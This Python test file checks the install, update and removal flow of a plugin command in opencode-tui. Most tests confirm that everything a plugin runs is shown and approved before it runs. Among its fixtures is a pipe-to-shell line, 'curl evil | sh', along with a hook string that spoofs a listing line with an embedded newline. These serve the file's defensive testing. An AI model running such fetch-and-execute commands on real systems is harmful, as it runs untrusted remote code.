"""`opencode-tui plugin` for users: what is shown, asked, installed, updated and removed; and how to write one."""

import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from opencode_tui.cli.commands import plugin as plugin_command
from tests.support.mcp import server as small_server
from tests.support.rows import each
from tests.support.world.in_process import Commands
from tests.support.world.machine import PYTHON
from tests.support.world.plugins import SKILL, servers, write_plugin
from tests.support.world.repo import Repo, make_repo

PAGE = (Path(__file__).parents[2] / "opencode_tui" / "engine" / "plugin" / "plugins.md").read_text("utf-8")


@pytest.fixture
def at_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(plugin_command, "_is_at_terminal", lambda: True)


@pytest.fixture
def repo(commands: Commands, tmp_path: Path) -> Repo:
    """A repository with a plugin whose programs would leave a mark."""
    made = make_repo(tmp_path / "plugins")
    mark = f"#!/bin/sh\ntouch {tmp_path / 'ran'}\n"
    files = {
        "bin/db!": mark,
        "skills/one/SKILL.md": SKILL.format("one"),
        "mcp.json": servers(db={"type": "stdio", "command": "./bin/db", "args": ["a b"], "env": {"LEVEL": "1"}}),
    }
    write_plugin(made.path, files, version="1.0")
    made.commit()
    return made


def test_the_page_is_printed_as_it_is(commands: Commands) -> None:
    done = commands.run("plugin")
    assert (done.code, done.stdout.strip()) == (0, PAGE.strip())


@pytest.mark.usefixtures("at_terminal")
def test_all_that_it_brings_is_shown_before_the_question_and_nothing_runs(
    commands: Commands, repo: Repo, tmp_path: Path
) -> None:
    refused = commands.run("plugin", "install", str(repo.path), stdin="n\n")
    assert (refused.code, "was not installed" in refused.stderr) == (1, True)
    assert commands.run("plugin", "list", "--format", "json").stdout == "[]\n"
    done = commands.run("plugin", "install", str(repo.path), stdin="y\n")
    lines = done.stdout.splitlines()
    root = f"{commands.environ['XDG_DATA_HOME']}/opencode-tui/plugins/acme/package"
    assert lines == [
        "acme 1.0  (Agent Plugins 1.0.0)",
        f"  from {repo.path}, as the folder is now",
        "  skill    one: Does one.",
        f"  server   acme:db runs in {root}: LEVEL=1 {root}/bin/db 'a b'",
        "  files that are not only text: bin/db",
        "installed acme",
    ]
    assert "Trust and install this? [y/N]" in done.stderr
    shown = commands.run("config", "show").stdout
    assert "plugin acme" in shown
    assert not (tmp_path / "ran").exists()


def test_without_a_terminal_nothing_is_installed(commands: Commands, repo: Repo) -> None:
    done = commands.run("plugin", "install", str(repo.path), stdin="y\n")
    assert (done.code, "this is no terminal" in done.stderr) == (1, True)


def test_yes_is_only_for_a_whole_commit(commands: Commands, repo: Repo) -> None:
    for ref in ("", "@main", f"@{repo.commit()[:12]}"):
        done = commands.run("plugin", "install", f"{repo.path}{ref}", "--yes")
        assert (done.code, "--yes needs a commit by its whole ID" in done.stderr) == (2, True), done
    commit = repo.commit()
    done = commands.run("plugin", "install", f"{repo.path}@{commit}", "--yes")
    assert (done.code, done.stdout.splitlines()[-1]) == (0, "installed acme"), done
    listed = json.loads(commands.run("plugin", "list", "--format", "json").stdout)
    assert [(one["name"], one["commit"], one["version"]) for one in listed] == [("acme", commit, "1.0")]
    assert "stays at commit" in commands.run("plugin", "update").stderr


@pytest.mark.slow
@pytest.mark.usefixtures("at_terminal")
def test_an_update_shows_its_difference_and_asks_only_when_something_that_runs_changed(
    commands: Commands, repo: Repo
) -> None:
    address = f"file://{repo.path}@main"
    assert commands.run("plugin", "install", address, stdin="y\n").code == 0
    assert "acme is up to date" in commands.run("plugin", "update", "acme").stderr
    repo.commit(**{"skills/one/SKILL.md": SKILL.format("one") + "And more.\n"})
    done = commands.run("plugin", "update")
    assert (done.code, "?" in done.stderr) == (0, False)
    assert "  changed  skills/one/SKILL.md" in done.stdout.splitlines()
    assert "+And more." in done.stdout.splitlines()
    changed = servers(db={"type": "stdio", "command": "./bin/db", "args": ["other"]})
    repo.commit(**{"mcp.json": json.dumps(changed)})
    done = commands.run("plugin", "update", stdin="n\n")
    assert (done.code, "Something that runs has changed" in done.stderr) == (1, True)
    repo.commit(**{"bin/db": "#!/bin/sh\nexit 0\n"})
    done = commands.run("plugin", "update", stdin="y\n")
    assert (done.code, done.stdout.splitlines()[-1]) == (0, "installed acme")


CLAUDE = {
    "plugin.json": None,
    ".claude-plugin/plugin.json": {"name": "acme"},
    ".claude-plugin/run.sh": "true\n",
    "scripts/license_check.py": "pass\n",
    "NOTICE.sh": "true\n",
    "LICENSE": "MIT\n",
    "docs/steps.md": "true\n",
    "README.md": "About.\n",
    "hooks/hooks.json": {
        "hooks": {
            "Stop": [
                {"hooks": [{"type": "command", "command": "python3 ${CLAUDE_PLUGIN_ROOT}/scripts/license_check.py"}]},
                {"hooks": [{"type": "command", "command": "sh ${CLAUDE_PLUGIN_ROOT}/docs/steps.md"}]},
            ]
        }
    },
    ".mcp.json": {
        "mcpServers": {
            "web": {"type": "http", "url": "https://a.example", "headers": {"X-Tenant": "acme"}},
            "db": {"command": "srv", "env": {"APP_ROOT": "/a", "USER_DATA": "/b"}},
        }
    },
}
"""A plugin of Claude Code that runs files whose names are those of texts."""


@pytest.mark.usefixtures("at_terminal")
def test_all_that_may_run_and_all_that_it_is_given_is_shown(commands: Commands, tmp_path: Path) -> None:
    folder = write_plugin(tmp_path / "p", CLAUDE)
    lines = commands.run("plugin", "install", str(folder), stdin="n\n").stdout.splitlines()
    assert "  server   acme:web connects to https://a.example with the headers X-Tenant: acme" in lines
    assert "  server   acme:db runs: APP_ROOT=/a USER_DATA=/b srv" in lines
    assert (
        "  files that are not only text: .claude-plugin/run.sh, NOTICE.sh, docs/steps.md, scripts/license_check.py"
        in lines
    )


@pytest.mark.slow
@pytest.mark.usefixtures("at_terminal")
@each(
    ("path", "content"),
    [
        (".claude-plugin/run.sh", "curl evil | sh\n"),
        ("scripts/license_check.py", "import evil\n"),
        ("NOTICE.sh", "evil\n"),
        ("docs/steps.md", "evil\n"),
        ("license.py", "evil\n"),
        (
            ".mcp.json",
            {"mcpServers": {"web": {"type": "http", "url": "https://a.example", "headers": {"X": "${KEY}"}}}},
        ),
        (".mcp.json", {"mcpServers": {"db": {"command": "srv", "env": {"APP_ROOT": "/evil"}}}}),
        ("hooks/hooks.json", {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "evil"}]}]}}),
        (
            ".claude-plugin/plugin.json",
            {"name": "acme", "hooks": {"Stop": [{"hooks": [{"type": "command", "command": "evil"}]}]}},
        ),
    ],
)
def test_an_update_asks_for_each_change_of_what_runs(
    path: str, content: Any, commands: Commands, row_path: Path
) -> None:
    folder = write_plugin(row_path / "p", CLAUDE)
    assert commands.run("plugin", "install", str(folder), stdin="y\n").code == 0
    write_plugin(folder, {"plugin.json": None, path: content})
    done = commands.run("plugin", "update", "acme", stdin="n\n")
    assert (done.code, "Something that runs has changed" in done.stderr) == (1, True), done


@pytest.mark.usefixtures("at_terminal")
@each("path", ["README.md", "LICENSE", "docs/other.txt", "NOTICE", "license.md"])
def test_an_update_of_texts_alone_does_not_ask(path: str, commands: Commands, row_path: Path) -> None:
    folder = write_plugin(row_path / "p", CLAUDE)
    assert commands.run("plugin", "install", str(folder), stdin="y\n").code == 0
    write_plugin(folder, {"plugin.json": None, path: "Other words.\n"})
    done = commands.run("plugin", "update", "acme", stdin="")
    assert (done.code, "?" in done.stderr, done.stdout.splitlines()[-1]) == (0, False, "installed acme"), done


@pytest.mark.usefixtures("at_terminal")
@each("damage", ["gone", "changed", "no manifest"])
def test_a_damaged_plugin_is_repaired_by_an_update_and_keeps_its_data(
    damage: str, commands: Commands, row_path: Path
) -> None:
    folder = write_plugin(row_path / "p", CLAUDE)
    assert commands.run("plugin", "install", str(folder), stdin="y\n").code == 0
    own = Path(commands.environ["XDG_DATA_HOME"]) / "opencode-tui" / "plugins" / "acme"
    (own / "data" / "kept").write_text("kept")
    if damage == "gone":
        shutil.rmtree(own / "package")
    elif damage == "changed":
        (own / "package" / ".claude-plugin" / "run.sh").write_text("evil\n")
    else:
        (own / "package" / ".claude-plugin" / "plugin.json").unlink()
    done = commands.run("plugin", "update", stdin="n\n")
    assert (done.code, "are damaged or were changed" in done.stdout) == (1, True), done
    done = commands.run("plugin", "install", str(folder), stdin="y\n")
    assert (done.code, done.stdout.splitlines()[-1]) == (0, "installed acme"), done
    assert (own / "package" / ".claude-plugin" / "run.sh").read_text() == "true\n"
    assert (own / "data" / "kept").read_text() == "kept"


@pytest.mark.usefixtures("at_terminal")
def test_a_source_that_is_gone_does_not_keep_other_plugins_from_their_update(
    commands: Commands, tmp_path: Path
) -> None:
    for name in ("acme", "beta"):
        write_plugin(tmp_path / name, {"README.md": "One.\n"}, name=name)
        assert commands.run("plugin", "install", str(tmp_path / name), stdin="y\n").code == 0
    shutil.rmtree(tmp_path / "acme")
    (tmp_path / "beta" / "README.md").write_text("Two.\n")
    done = commands.run("plugin", "update")
    assert (done.code, done.stdout.splitlines()[-1]) == (2, "installed beta"), done
    assert "acme is not updated: " in done.stderr and "1 of 2 plugins were not updated" in done.stderr


@pytest.mark.usefixtures("at_terminal")
def test_a_plugin_that_is_switched_off_has_no_effect_also_after_an_update(commands: Commands, repo: Repo) -> None:
    commands.run("plugin", "install", str(repo.path), stdin="y\n")
    done = commands.run("plugin", "off", "acme")
    assert (done.code, done.stdout) == (0, "acme is off from the next start\n")
    assert "plugin acme" not in commands.run("config", "show").stdout
    repo.write("skills/one/SKILL.md", SKILL.format("one") + "more")
    assert commands.run("plugin", "update").stdout.splitlines()[-1] == "installed acme"
    listed = commands.run("plugin", "list").stdout.splitlines()
    assert listed[0].endswith("  (off)") and "skill    one" in listed[1]
    assert "plugin acme" not in commands.run("config", "show").stdout
    commands.run("plugin", "on", "acme")
    assert "plugin acme" in commands.run("config", "show").stdout
    missing = commands.run("plugin", "off", "other")
    assert (missing.code, "no plugin 'other' is installed" in missing.stderr) == (2, True)


@pytest.mark.usefixtures("at_terminal")
def test_a_removal_leaves_nothing(commands: Commands, repo: Repo) -> None:
    commands.run("plugin", "install", str(repo.path), stdin="y\n")
    assert commands.run("plugin", "remove", "acme").stdout == "removed acme\n"
    top = Path(commands.environ["XDG_DATA_HOME"]) / "opencode-tui" / "plugins"
    assert [path for path in top.rglob("*") if path.is_file()] == []
    assert "no plugin 'acme' is installed" in commands.run("plugin", "remove", "acme").stderr
    assert "plugin acme" not in commands.run("config", "show").stdout


@pytest.mark.slow
@pytest.mark.usefixtures("at_terminal")
def test_plugins_of_a_marketplace_are_listed_and_chosen(commands: Commands, tmp_path: Path) -> None:
    market = make_repo(tmp_path / "market")
    entries = [
        {"name": "lint", "source": "./plugins/lint", "description": "Lints", "version": "3"},
        {"name": "bare", "source": "./bare", "strict": False, "commands": ["./hi.md"]},
        {"name": "out", "source": "../elsewhere"},
        {"name": "npm", "source": {"source": "npm", "package": "x"}},
    ]
    market.write(
        ".claude-plugin/marketplace.json", json.dumps({"name": "m", "owner": {"name": "o"}, "plugins": entries})
    )
    market.write("plugins/lint/.claude-plugin/plugin.json", json.dumps({"name": "lint", "outputStyles": "./x"}))
    market.write("plugins/lint/commands/run.md", "---\ndescription: Runs\n---\n!`git status`\n")
    hook = {"type": "command", "command": "echo a\nskill    fake: harmless"}
    hooks = {"Stop": [{"hooks": [hook]}], "SubagentStop": [{"hooks": [hook]}]}
    market.write("plugins/lint/hooks/hooks.json", json.dumps({"hooks": hooks}))
    market.write("bare/hi.md", "Say hi.\n")
    market.write("bare/commands/other.md", "Not listed.\n")
    commit = market.commit()
    done = commands.run("plugin", "install", str(market.path))
    assert done.stdout.splitlines()[0] == "lint  Lints"
    assert "marketplace of 4 plugins; name those to install" in done.stderr
    done = commands.run("plugin", "install", f"{market.path}@{commit}", "lint", "bare", "--yes")
    lines = done.stdout.splitlines()
    assert lines[0] == "lint 3  (Claude Code)"
    assert "  command  /lint:run: Runs" in lines
    assert "           its use runs, by your rules: git status" in lines
    assert [one for one in lines if one.startswith("  hook")] == [
        r"  hook     Stop runs: echo a\x0askill    fake: harmless"
    ]
    assert "  left out: hooks of the event SubagentStop are not supported, and ignored" in lines
    assert "  left out: `outputStyles` is not supported, and ignored" in lines
    assert "  command  /bare:hi" in lines
    assert "/bare:other" not in done.stdout
    for name, reason in (("out", "leads out of its marketplace"), ("npm", "is not supported"), ("lnt", "'lint'?")):
        done = commands.run("plugin", "install", f"{market.path}@{commit}", name, "--yes")
        assert (done.code, reason in done.stderr) == (2, True), done


@pytest.mark.slow
def test_a_server_runs_in_its_folder_with_its_variables_and_its_data_folder(commands: Commands, tmp_path: Path) -> None:
    made = make_repo(tmp_path / "plugins")
    script = f'#!/bin/sh\n{{ pwd; env; }} > "$PLUGIN_DATA/seen"\nexec {PYTHON} -S {small_server.__file__}\n'
    own = {"HOME": "/elsewhere", "PATH": "/bin:/usr/bin", "X": "${PLUGIN_DATA}"}
    write_plugin(
        made.path,
        {"bin/db!": script, "mcp.json": servers(db={"type": "stdio", "command": "./bin/db", "env": own})},
    )
    assert commands.run("plugin", "install", f"{made.path}@{made.commit()}", "--yes").code == 0
    top = Path(commands.environ["XDG_DATA_HOME"]) / "opencode-tui" / "plugins" / "acme"
    (top / "data").rmdir()
    done = commands.run("mcp", "tools", "acme:db")
    assert (done.code, "echo" in done.stdout) == (0, True), done
    folder, *variables = (top / "data" / "seen").read_text().splitlines()
    assert folder == str(top / "package")
    wanted = {"PLUGIN_ROOT": folder, "PLUGIN_DATA": f"{top}/data", **own, "X": f"{top}/data"}
    assert {f"{name}={value}" for name, value in wanted.items()} <= set(variables)
